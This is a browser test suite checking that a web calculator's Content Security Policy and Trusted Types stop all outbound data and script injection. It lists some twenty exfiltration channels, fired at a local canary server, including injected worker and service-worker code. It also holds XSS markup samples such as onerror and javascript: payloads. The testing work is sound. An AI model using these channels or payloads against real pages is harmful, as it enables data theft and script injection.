// Nothing leaves the page and no foreign code runs in it: every attempt is refused.

import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { policyOf } from '../../tools/build/policy.mjs';
import { filesOf } from '../../tools/build/sizes.mjs';
import { DIST } from '../../tools/serve.mjs';
import { article, embedded } from './article.mjs';
import { keeping } from './keeping.mjs';
import { awaited } from './visitor.mjs';

/** Every exit that a policy can block. Each has its own URL, so that a request names its exit. */
const WAYS_OUT = {
  fetch: (url) => fetch(url, { mode: 'no-cors' }),
  request: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  image: (url) => void (new Image().src = url),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  socket: (url) => void new WebSocket(url.replace('http', 'ws')),
  events: (url) => void new EventSource(url),
  worker: (url) => void new Worker(url),
  blob: (url) => {
    const code = `fetch('${url}', { mode: 'no-cors' }); importScripts('${url}')`;
    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  service: (url) => navigator.serviceWorker.register(url),
  script: (url) => added(Object.assign(document.createElement('script'), { src: url })),
  module: (url) => import(url),
  style: (url) => added(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  prefetch: (url) => added(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })),
  font: (url) => new FontFace('x', `url(${url})`).load(),
  audio: (url) => new Audio(url).play(),
  sheet: (url) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(
      `html { background: url(${url}) } .masthead { list-style: url(${url}); cursor: url(${url}), auto }`,
    );
    document.adoptedStyleSheets = [sheet];
  },
  attribute: (url) => document.body.setAttribute('style', `border-image: url(${url})`),
  imported: (url) => added(Object.assign(document.createElement('style'), { textContent: `@import url(${url});` })),
  drawing: (url) => {
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    added(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(image);
  },
  object: (url) => added(Object.assign(document.createElement('object'), { data: url })),
  ping: (url) => {
    const link = Object.assign(document.createElement('a'), { href: '#x', ping: url });
    added(link);
    link.click();
  },
};

/** For these Chromium opens a speculative connection before it checks the policy; no data are sent. */
const NAVIGATIONS = {
  frame: (url) => added(Object.assign(document.createElement('iframe'), { src: url })),
  form: (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
    added(form);
    form.submit();
  },
  window: (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, target: '_blank' });
    added(form);
    form.requestSubmit();
  },
};

/** Tries the exits in a page or frame. */
async function tried(ways, { page, canary }) {
  await page.evaluate(() => addEventListener('unhandledrejection', (event) => event.preventDefault()));
  // The exits run in the page and read this.
  await page.evaluate(() => (globalThis.added = (element) => (document.body.append(element), element)));
  for (const [name, way] of Object.entries(ways)) {
    // A refused exit may throw, and a pending fetch must not block the others.
    await Promise.race([page.evaluate(way, `${canary.origin}/${name}`).catch(() => {}), pause(1000)]);
    await pause(40);
  }
  await pause(400);
}

const ORDER_DATA = '1.234.567\n7.654.321';

/** A whole visit while the service worker is installed: type, slide, paste, save, change the language, go back, reload. */
async function session(visitor, page) {
  await visitor.open();
  await keeping(visitor);
  await visitor.fill('order_value', '17 triệu');
  await visitor.slide('cac', 3);
  await visitor.paste('transactions', ORDER_DATA);
  await visitor.until(
    'the sum',
    () => document.querySelector('output[name="historical_clv"]').dataset.value === '8888888',
  );
  await visitor.click('Lưu SVG');
  await visitor.click('Lưu PNG');
  await visitor.click('English');
  await visitor.until('English', () => document.documentElement.lang === 'en');
  await visitor.until('the address', () => location.hash.includes('lang=en'));
  const address = page.url();
  await visitor.back();
  await visitor.until('the step back', (address) => location.href !== address, address);
  await visitor.reload();
  await visitor.point('button[value="subscription"]');
  await visitor.until('the example', () => document.querySelector('figure.survival').checkVisibility());
  await pause(400);
}

/** The orders' screen with the report of the sample shop. */
async function sampleReport(visitor) {
  await visitor.open({ view: 'orders' });
  await visitor.press('sample');
  await visitor.report();
}

const IMPORTS = join(import.meta.dirname, '../imports');
/** Files for hosts, search engines and link previews. */
const FOR_OTHERS = /\.(br|gz)$|^_headers$|^(NOTICES|robots)\.txt$|^sbom\.|^preview-/;

const pause = (ms) => new Promise((done) => setTimeout(done, ms));

export default (t) => {
  // Only the host sees the requests of the service worker.
  const heard = [];
  const listening = { answer: (path) => void heard.push(path) };
  t.test('a whole visit requests only the page’s own files', listening, async ({ visitor, page, server }) => {
    const asked = [];
    heard.length = 0;
    page.on('request', (request) =>
      asked.push({ url: request.url().split('#')[0], method: request.method(), body: request.hasPostData() }),
    );
    await session(visitor, page);
    const files = asked.filter(({ url }) => !/^(blob|data):/.test(url));
    assert.ok(files.length >= 4, `${files.length} requests`);
    for (const { url, method, body } of files) {
      assert.ok(url.startsWith(server.url) && !url.includes('?'), url);
      assert.ok(
        url === server.url || existsSync(join(DIST, url.slice(server.url.length))),
        `${url} is a file of the page`,
      );
      assert.deepEqual([method, body], ['GET', false]);
    }
    assert.ok(heard.includes('/sw.js') && heard.some((path) => path.includes('/screens_bg-')), 'the copy was made');
    for (const path of heard) assert.ok(path === '/' || existsSync(join(DIST, path)), `${path} is a file of the page`);
    // The runner checks after every test that there was no violation, error or contact with the canary.
  });

  t.test(
    'a visit to every screen requests exactly the page’s files',
    { ...listening, blog: article },
    async ({ visitor, page, server, blog }) => {
      heard.length = 0;
      await session(visitor, page);
      for (const view of ['whatif', 'segments', 'share', 'guide', 'orders']) {
        await page.evaluate((view) => (location.hash = `#v=1&view=${view}`), view);
        await visitor.until(
          view,
          (view) =>
            document.querySelector(view === 'guide' ? '#guide-place' : '#screens-place')?.textContent.length > 200 &&
            document.documentElement.dataset.view === view,
          view,
        );
      }
      await visitor.choose('orders_file', join(IMPORTS, 'book.xlsx'));
      await visitor.report();
      await page.evaluate(() => {
        HTMLAnchorElement.prototype.click = () => (globalThis.isOffered = true);
      });
      await visitor.press('save_report_workbook');
      await visitor.until('the workbook', () => globalThis.isOffered);
      await page.goto(blog.url);
      await embedded(page, server);
      const asked = [...new Set(heard)].map((path) => path.slice(1) || 'index.html').sort();
      assert.deepEqual(
        asked,
        filesOf(DIST)
          .filter((file) => !FOR_OTHERS.test(file))
          .sort(),
      );
    },
  );

  t.test('stores under its own keys only, and sets no cookie', async ({ visitor, page }) => {
    await session(visitor, page);
    const kept = await page.evaluate(() => ({
      cookie: document.cookie,
      session: Object.keys(sessionStorage),
      names: Object.keys(localStorage),
    }));
    // The tab's own entry: the address for a reload.
    assert.deepEqual([kept.cookie, kept.session], ['', ['clv:tab']]);
    for (const name of kept.names) assert.match(name, /^clv:/);
  });

  t.test('no data leave the page', { allow: [/./] }, async (given) => {
    await given.visitor.open();
    await tried(WAYS_OUT, given);
    assert.deepEqual(given.canary.hits, []);
    assert.equal(given.canary.connections, 0);
  });

  t.test('no data leave the screens', { allow: [/./] }, async (given) => {
    await sampleReport(given.visitor);
    await tried(WAYS_OUT, given);
    assert.deepEqual(given.canary.hits, []);
    assert.equal(given.canary.connections, 0);
  });

  t.test(
    'no data leave a calculator in an article',
    { blog: article, allow: [/./] },
    async ({ page, server, canary, blog }) => {
      await page.goto(blog.url);
      const { page: inside } = await embedded(page, server);
      await tried(WAYS_OUT, { page: inside, canary });
      assert.deepEqual(canary.hits, []);
      assert.equal(canary.connections, 0);
    },
  );

  t.test(
    'no data leave a calculator in an article by a frame or a form',
    { blog: article, allow: [/./], connections: true },
    async ({ page, server, canary, blog }) => {
      await page.goto(blog.url);
      const { page: inside } = await embedded(page, server);
      await tried(NAVIGATIONS, { page: inside, canary });
      assert.deepEqual(canary.hits, []);
    },
  );

  t.test('no data leave the page by a frame or a form', { allow: [/./], connections: true }, async (given) => {
    await given.visitor.open();
    await tried(NAVIGATIONS, given);
    assert.deepEqual(given.canary.hits, []);
  });

  let elsewhere;
  /** Exits tried in the page's own workers, whose scripts the test has changed. */
  const WAYS_OF_WORKERS = `
    const ways = {
      fetch: (url) => fetch(url, { mode: 'no-cors' }),
      request: (url) => { const request = new XMLHttpRequest(); request.open('POST', url); request.send('0001'); },
      socket: (url) => new WebSocket(url.replace('http', 'ws')),
      events: (url) => new EventSource(url),
      module: (url) => import(url),
      scripts: (url) => importScripts(url),
      worker: (url) => new Worker(url),
      stored: (url) => caches.open('x').then((cache) => cache.add(new Request(url, { mode: 'no-cors' }))),
    };
    for (const [name, way] of Object.entries(ways)) Promise.resolve().then(() => way('CANARY/' + name)).catch(() => {});`;
  const waysOut = () => WAYS_OF_WORKERS.replace('CANARY', elsewhere);

  let tampered = 0;
  const changed = {
    allow: [/./],
    answer: (path) => {
      if (!/\/worker-\w+\.js$/.test(path)) return undefined;
      tampered += 1;
      return readFileSync(join(DIST, path), 'utf8') + waysOut();
    },
  };
  t.test('no data leave the worker of the orders', changed, async ({ visitor, canary }) => {
    [elsewhere, tampered] = [canary.origin, 0];
    await sampleReport(visitor);
    await pause(500);
    assert.ok(tampered > 0, 'the worker tried');
    assert.deepEqual(canary.hits, []);
    assert.equal(canary.connections, 0);
  });

  /** The number of packets that a WebRTC connection in a page or frame sends to this machine, and whether WebRTC exists. */
  async function byRtc(page) {
    const heard = createSocket('udp4');
    let packets = 0;
    heard.on('message', () => (packets += 1));
    await new Promise((/** @type {(value?: unknown) => void} */ done) => heard.bind(0, '127.0.0.1', done));
    try {
      const isThere = await page.evaluate(async (port) => {
        if (typeof RTCPeerConnection === 'undefined') return false;
        const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        connection.createDataChannel('x');
        await connection.setLocalDescription();
        return true;
      }, heard.address().port);
      if (isThere) await awaited('a packet', () => packets > 0).catch(() => {});
      return { isThere, packets };
    } finally {
      heard.close();
    }
  }

  // No policy of both browsers blocks it, so boot.js removes it before other code runs.
  const rtc = {
    settings: { firefox: { 'media.peerconnection.ice.loopback': true } },
    blog: (base) => article(base),
    allow: [/./],
  };
  t.test('no data leave the page or an embed by WebRTC', rtc, async ({ visitor, page, server, blog }) => {
    await page.goto(blog.url);
    const { page: inside } = await embedded(page, server);
    assert.deepEqual(await byRtc(inside), { isThere: false, packets: 0 });
    // The article may use it, which shows that packets are counted.
    const bare = await byRtc(page);
    assert.ok(bare.isThere && bare.packets > 0, JSON.stringify(bare));
    await visitor.open();
    assert.deepEqual(await byRtc(page), { isThere: false, packets: 0 });
  });

  // The page's policy does not apply to a service worker; only the host's header does.
  const astray = {
    headers: { 'Content-Security-Policy': policyOf(readFileSync(join(DIST, 'index.html'), 'utf8')) },
    answer: (path) => (path === '/sw.js' ? waysOut() : undefined),
    allow: [/./],
  };
  const goneAstray = async ({ visitor, page, canary }) => {
    elsewhere = canary.origin;
    await visitor.open();
    await page.evaluate(() => navigator.serviceWorker.register('./sw.js').then(() => {}));
    await visitor.until('the worker', () => navigator.serviceWorker.ready.then(() => true));
    await pause(500);
    return canary.hits.splice(0).map((hit) => /\/(\w+)$/.exec(hit)[1]);
  };
  t.test('no data leave the service worker if the host sends the policy', astray, async (given) => {
    assert.deepEqual(await goneAstray(given), []);
  });
  t.test(
    'without a policy header the service worker’s exits are open',
    { ...astray, headers: {}, connections: true },
    async (given) => {
      const reached = await goneAstray(given);
      // A service worker has no XMLHttpRequest, no workers and no dynamic import.
      for (const way of ['fetch', 'stored']) assert.ok(reached.includes(way), `${way} of ${reached}`);
    },
  );

  /** Without a policy every exit must reach the canary; otherwise its refusal would prove nothing. */
  const bare = {
    blog: () => '<!doctype html><title>x</title><link rel="icon" href="data:,"><body><p class="masthead">x</p>',
    allow: [/./],
    connections: true,
  };
  /** Exits that do not work even then, with the reason. */
  const CLOSED = {
    worker: 'the script of a worker must be of the page’s own origin',
    service: 'so must that of a service worker',
  };
  const CLOSED_IN = { firefox: { ping: 'Firefox sends none unless it is told to' }, chromium: {} };

  t.test('the tested exits are open without a policy', bare, async ({ page, canary, blog, browser }) => {
    await page.goto(blog.url);
    const byName = () => new Set(canary.hits.map((hit) => /\/(\w+)$/.exec(hit)[1]));
    /** Waits for the exits that work; missing ones are reported below. */
    const arrived = (names) => awaited(`${names}`, () => names.every((name) => byName().has(name))).catch(() => {});
    await tried(WAYS_OUT, { page, canary });
    const closed = { ...CLOSED, ...CLOSED_IN[browser] };
    await arrived(Object.keys(WAYS_OUT).filter((name) => !(name in closed)));
    const reached = byName();
    canary.hits.length = 0;
    assert.deepEqual(
      Object.keys(WAYS_OUT).filter((name) => !reached.has(name)),
      Object.keys(WAYS_OUT).filter((name) => name in closed),
    );
    // Exits that leave the page or open another.
    for (const [name, way] of Object.entries(NAVIGATIONS)) {
      await page.goto(blog.url);
      await tried({ [name]: way }, { page, canary });
      await awaited(name, () => canary.hits.some((hit) => hit.includes(name)));
      canary.hits.length = 0;
    }
    await page.goto(blog.url);
    const code = WAYS_OF_WORKERS.replace('CANARY', canary.origin);
    await page.evaluate(
      (code) => void new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
      code,
    );
    const ways = [...code.matchAll(/^ +(\w+): \(url\)/gm)].map(([, name]) => name);
    await arrived(ways.filter((name) => name !== 'worker'));
    // Waits for the exit that does not work too.
    await pause(400);
    const byWorker = byName();
    canary.hits.length = 0;
    assert.ok(ways.length >= 8, `${ways}`);
    assert.deepEqual(
      ways.filter((name) => !byWorker.has(name)),
      ['worker'],
    );
  });

  const told = [
    /GET .*\?cac=1$/,
    /POST .*\/beacon$/,
    /GET .*\/socket websocket$/,
    /POST .*\/worker$/,
    /GET .*\?embed=1&cac=2$/,
  ];
  t.test(
    'requests to the page’s own host with data are detected',
    { allow: [/./], asks: told },
    async ({ visitor, page }) => {
      await visitor.open();
      await page.evaluate(async () => {
        await fetch('./?cac=1');
        await fetch('./?embed=1&cac=2');
        navigator.sendBeacon('./beacon', 'x');
        const socket = new WebSocket(new URL('socket', location.href).href.replace('http', 'ws'));
        await new Promise((done) => (socket.onerror = done));
        const code = `fetch('${new URL('worker', location.href)}', { method: 'POST', body: 'x' }).finally(() => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        await new Promise((done) => (worker.onmessage = done));
      });
    },
  );

  t.test('the canary server detects every kind of contact', async ({ canary }) => {
    await fetch(`${canary.origin}/hello`);
    assert.deepEqual(canary.hits.splice(0), ['GET /hello']);
    canary.connections = 0;
  });

  const refused = [/policy violation/, /trusted ?types|TrustedHTML|TrustedScript|Content[- ]Security[- ]Policy/i];

  t.test(
    'Trusted Types refuse markup with code and allow other markup',
    { allow: refused },
    async ({ visitor, page }) => {
      await visitor.open();
      const written = (markup) =>
        page.evaluate((markup) => {
          const element = document.createElement('div');
          try {
            element.innerHTML = markup;
          } catch {
            return 'refused';
          }
          return element.innerHTML;
        }, markup);
      assert.equal(await written('<p class="a">on = 1</p>'), '<p class="a">on = 1</p>');
      for (const markup of [
        '<script>1</script>',
        '<img src=x onerror=1>',
        '<svg/onload=1>',
        '<a href="javascript:1">x</a>',
      ]) {
        assert.equal(await written(markup), 'refused', markup);
      }
    },
  );

  t.test('text cannot be run as code', { allow: [...refused, /eval/i] }, async ({ visitor, page }) => {
    await visitor.open();
    const ran = await page.evaluate(async () => {
      // In a task of the page, because the policy does not apply to calls by the debugger.
      await new Promise((done) => setTimeout(done));
      const button = document.createElement('button');
      const attempts = [
        () => button.setAttribute('onclick', 'globalThis.ran = true'),
        () => document.body.append(button),
        () => button.click(),
        () => setTimeout('globalThis.ran = true'),
        () => new Function('globalThis.ran = true')(),
        () => document.head.append(Object.assign(document.createElement('base'), { href: 'http://127.0.0.1:9/' })),
      ];
      for (const attempt of attempts) {
        try {
          attempt();
        } catch {
          // Refused with an exception.
        }
      }
      await new Promise((done) => setTimeout(done, 20));
      return { code: globalThis.ran ?? false, base: document.baseURI.includes(':9/') };
    });
    assert.deepEqual(ran, { code: false, base: false });
  });
};
